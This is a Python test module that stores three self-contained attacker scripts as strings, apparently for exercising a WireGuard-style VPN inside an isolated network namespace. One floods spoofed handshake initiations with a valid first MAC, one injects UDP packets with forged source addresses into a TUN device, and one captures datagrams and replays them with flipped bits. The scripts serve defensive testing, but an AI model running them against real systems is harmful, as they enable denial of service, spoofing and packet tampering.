"""Programs of somebody who means no good, for a namespace of a test. Each ends by itself."""

from typing import Final

__all__ = ["FLOOD", "INJECT", "SPOOF"]

FLOOD: Final = r'''
"""Initiations with a right first MAC and nothing else right, from addresses that do not exist."""
import base64, hashlib, os, socket, struct, sys, time

key = base64.b64decode(sys.argv[1])
mac_key = hashlib.blake2s(b"mac1----" + key).digest()
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
messages = []
for number in range(2000):
    body = struct.pack("<II", 1, number) + os.urandom(108)
    body += hashlib.blake2s(body, key=mac_key, digest_size=16).digest() + bytes(16)
    udp = struct.pack("!HHHH", 1024 + number, 52625, 8 + len(body), 0)
    source = socket.inet_aton(f"198.18.{number >> 8}.{number & 255}")
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, 17, 0, source,
                       socket.inet_aton("192.0.2.2"))
    messages.append(head + udp + body)
print("flooding", flush=True)
end = time.monotonic() + 3
sent = 0
while time.monotonic() < end:
    for message in messages:
        raw.sendto(message, ("192.0.2.2", 0))
    sent += len(messages)
print(sent, flush=True)
'''

SPOOF: Final = r'''
"""UDP packets into a TUN device's route, by a packet socket: first from foreign addresses."""
import socket, struct, sys

device, target, foreign, own = sys.argv[1:]

def total(data):
    if len(data) % 2:
        data += b"\0"
    value = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while value >> 16:
        value = (value & 0xFFFF) + (value >> 16)
    return ~value & 0xFFFF

def packet(source, payload):
    ends = socket.inet_aton(source) + socket.inet_aton(target)
    length = 8 + len(payload)
    pseudo = ends + struct.pack("!BBH", 0, 17, length)
    udp = struct.pack("!HHHH", 5555, 7777, length, 0)
    check = total(pseudo + udp + payload) or 0xFFFF
    udp = struct.pack("!HHHH", 5555, 7777, length, check)
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + length, 1, 0, 64, 17, 0) + ends
    head = head[:10] + struct.pack("!H", total(head)) + head[12:]
    return head + udp + payload

out = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
for source in (foreign, "192.0.2.1", "10.77.0.50", "127.0.0.1"):
    for _ in range(50):
        out.sendto(packet(source, b"1234567"), (device, 0x0800))
out.sendto(packet(own, b"own"), (device, 0x0800))
'''

INJECT: Final = r'''
"""Datagrams to an address, caught on their way, sent again as they are and with a bit turned."""
import socket, sys, time

gateway = socket.inet_aton(sys.argv[1])
catch = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0003))
catch.bind(("wan", 0x0003))
catch.settimeout(1)
again = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
end = time.monotonic() + 3
ours, sent = set(), 0
while time.monotonic() < end and sent < 4000:
    try:
        data, place = catch.recvfrom(65536)
    except TimeoutError:
        continue
    if data[0] != 0x45 or data[16:20] != gateway or data[9] != 17 or len(data) > 1400:
        continue
    if data in ours:
        continue
    at = 28 + sent % max(1, len(data) - 28)
    turned = bytearray(data)
    turned[at] ^= 1 << sent % 8
    # Without a checksum, or the kernel would drop it.
    turned[26:28] = b"\0\0"
    for message in (data[:26] + b"\0\0" + data[28:], bytes(turned)):
        ours.add(message)
        again.sendto(message, (sys.argv[1], 0))
        sent += 1
print(sent)
'''
